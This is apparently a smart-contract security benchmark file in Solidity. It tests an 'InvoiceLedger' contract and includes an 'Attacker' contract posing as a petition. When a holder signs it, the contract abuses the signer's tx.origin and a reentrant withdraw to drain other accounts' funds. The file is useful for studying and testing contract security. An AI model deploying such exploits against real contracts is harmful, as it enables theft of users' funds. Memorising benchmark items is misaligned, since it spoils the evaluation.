// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "./InvoiceLedger.sol";

// assay-canary-00cebc39-59e5-4670-bb12-86a03a264626

interface Vm {
    function deal(address who, uint amount) external;
    function warp(uint time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender, address origin) external;
}

/// A petition that holders sign. It has an account too, and tries the others' meanwhile.
contract Attacker {
    InvoiceLedger internal ledger;
    bool internal again;
    mapping(address => uint) public signedAt;

    constructor(InvoiceLedger ledger_) public {
        ledger = ledger_;
    }

    function() external payable {
        if (!again) return;
        again = false;
        _try(abi.encodeWithSelector(ledger.withdraw.selector, msg.value));
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(ledger).call(data);
    }

    function prepare() external {
        ledger.renew.value(0.05 ether)();
    }

    function sign() external {
        signedAt[tx.origin] = now;
        (uint theirs, , , ) = ledger.accounts(tx.origin);
        uint free = ledger.issueInvoice(tx.origin, 0);
        uint most = ledger.issueInvoice(tx.origin, theirs);
        uint own = ledger.issueInvoice(address(this), 0.001 ether);

        _try(abi.encodeWithSelector(ledger.setOperator.selector, address(this), uint(-1)));
        _try(abi.encodeWithSelector(ledger.payInvoice.selector, free));
        _try(abi.encodeWithSelector(ledger.payInvoice.selector, most));
        _try(abi.encodeWithSelector(ledger.payInvoice.selector, own));
        _try(abi.encodeWithSelector(ledger.cancelInvoice.selector, most));
        _try(abi.encodeWithSelector(ledger.chooseCode.selector, 7));
        _try(abi.encodeWithSelector(ledger.collectFees.selector));
        _try(abi.encodeWithSelector(ledger.withdraw.selector, theirs + 1 ether));
        (uint mine, , , ) = ledger.accounts(address(this));
        again = true;
        _try(abi.encodeWithSelector(ledger.withdraw.selector, mine));
    }
}

contract Proof {
    Vm internal constant vm = Vm(address(uint160(uint(keccak256("hevm cheat code")))));

    address internal constant LOTTE = address(0x1077E);
    address internal constant OPERATOR = address(0xC1E2C);
    InvoiceLedger internal ledger;
    Attacker internal mallory;
    address internal gero; // signs his transactions himself

    function() external payable {}

    function setUp() public {
        vm.warp(1700000000);
        gero = tx.origin;
        ledger = new InvoiceLedger();
        mallory = new Attacker(ledger);
        vm.deal(address(mallory), 0.05 ether);
        mallory.prepare();
        vm.deal(gero, 8.02 ether);
        vm.deal(LOTTE, 3.02 ether);
        vm.prank(gero);
        ledger.renew.value(8.02 ether)();
        vm.prank(LOTTE);
        ledger.renew.value(3.02 ether)();
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(ledger).call(data);
    }

    function _balance(address who) private view returns (uint balance) {
        (balance, , , ) = ledger.accounts(who);
    }

    function test_Regular() public {
        vm.prank(gero);
        ledger.chooseCode(12);
        require(ledger.holderOf(12) == gero, "code");
        vm.prank(gero);
        ledger.sendNotice(LOTTE, "a notice");
        require(_balance(gero) == 7.999 ether, "notice");
        vm.prank(gero);
        uint invoice = ledger.issueInvoice(LOTTE, 0.5 ether);
        vm.prank(OPERATOR);
        require(!_try(abi.encodeWithSelector(ledger.payInvoice.selector, invoice)), "no limit");
        vm.prank(LOTTE);
        ledger.setOperator(OPERATOR, 0.6 ether);
        vm.prank(OPERATOR);
        ledger.payInvoice(invoice);
        require(_balance(LOTTE) == 2.5 ether && _balance(gero) == 8.498 ether, "paid");
        require(ledger.operatorLimit(LOTTE, OPERATOR) == 0.1 ether, "less the charge");

        vm.prank(LOTTE);
        invoice = ledger.issueInvoice(gero, 0.2 ether);
        require(!_try(abi.encodeWithSelector(ledger.cancelInvoice.selector, invoice)), "too early");
        vm.warp(now + 30 days);
        ledger.cancelInvoice(invoice);
        (address from, , , ) = ledger.invoiceAt(invoice);
        require(from == address(0), "cancelled");
        vm.prank(LOTTE);
        invoice = ledger.issueInvoice(gero, 0.2 ether);
        vm.prank(gero);
        ledger.payInvoice(invoice);

        vm.deal(LOTTE, 1 ether);
        vm.prank(LOTTE);
        ledger.depositFor.value(1 ether)(gero);
        vm.prank(gero);
        ledger.withdraw(9.298 ether);
        require(gero.balance == 9.298 ether && _balance(gero) == 0, "paid out");
        uint before = address(this).balance;
        ledger.collectFees();
        require(address(this).balance - before == 0.064 ether, "fees");
        require(address(ledger).balance == _balance(LOTTE) + _balance(address(mallory)), "books");
        ledger.transferOwnership(LOTTE);
        vm.prank(LOTTE);
        ledger.renounceOwnership();
        require(ledger.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Nothing is done with an account that nobody pays for.
    function test_RefusesWithoutAnAccount() public {
        address none = address(0xBEE);
        vm.deal(none, 1 ether);
        refuses(none, "the annual fee was not paid");
        ledger.renew.value(0.01 ether)();
        vm.prank(none, none);
        vm.expectRevert("the account is not open");
        ledger.chooseCode(5);
        refuses(none, "the account is not open");
        ledger.depositFor.value(1)(none);
        refuses(none, "the account is not open");
        ledger.setOperator(OPERATOR, 1);
        refuses(none, "the account is not open");
        ledger.sendNotice(LOTTE, "");
        refuses(none, "the account is not open");
        ledger.issueInvoice(LOTTE, 0);
        refuses(LOTTE, "the account is not open");
        ledger.sendNotice(none, "");
        refuses(LOTTE, "the account is not open");
        ledger.issueInvoice(none, 0);
        refuses(LOTTE, "Ownable: caller is not the owner");
        ledger.collectFees();
    }

    /// A code is free, and is chosen by a person.
    function test_RefusesCodes() public {
        refuses(LOTTE, "only a person may call this");
        ledger.chooseCode(5);
        vm.prank(gero);
        ledger.chooseCode(5);
        vm.prank(gero, gero);
        vm.expectRevert("the code must not be zero");
        ledger.chooseCode(0);
        vm.prank(LOTTE, LOTTE);
        vm.expectRevert("the code is taken");
        ledger.chooseCode(5);
    }

    /// Invoices that are paid or come to nothing, and payments that are refused.
    function test_RefusesInvoices() public {
        vm.prank(gero);
        uint invoice = ledger.issueInvoice(LOTTE, 0);
        refuses(OPERATOR, "the sender may not pay this");
        ledger.payInvoice(invoice);
        vm.prank(LOTTE, LOTTE);
        ledger.payInvoice(invoice);
        vm.prank(address(0), address(0));
        vm.expectRevert("the invoice is paid or cancelled");
        ledger.payInvoice(invoice);
        vm.expectRevert("the invoice is paid or cancelled");
        ledger.cancelInvoice(invoice);
        vm.prank(gero);
        invoice = ledger.issueInvoice(LOTTE, 0.1 ether);
        refuses(OPERATOR, "the sender may not pay this");
        ledger.payInvoice(invoice);
        vm.expectRevert("the invoice can still be paid");
        ledger.cancelInvoice(invoice);
        refuses(LOTTE, "the balance is too small");
        ledger.withdraw(3.1 ether);
        refuses(LOTTE, "Ownable: caller is not the owner");
        ledger.transferOwnership(LOTTE);
        refuses(LOTTE, "Ownable: caller is not the owner");
        ledger.renounceOwnership();
        vm.deal(address(ledger), 0);
        refuses(LOTTE, "the payment was refused");
        ledger.withdraw(1 ether);
    }

    // gero, who starts this transaction, signs the petition.
    function exploit() public {
        mallory.sign();
    }

    function test_Exploit() public {
        uint before = address(mallory).balance;
        exploit();
        require(address(mallory).balance - before >= 5 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(ledger);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
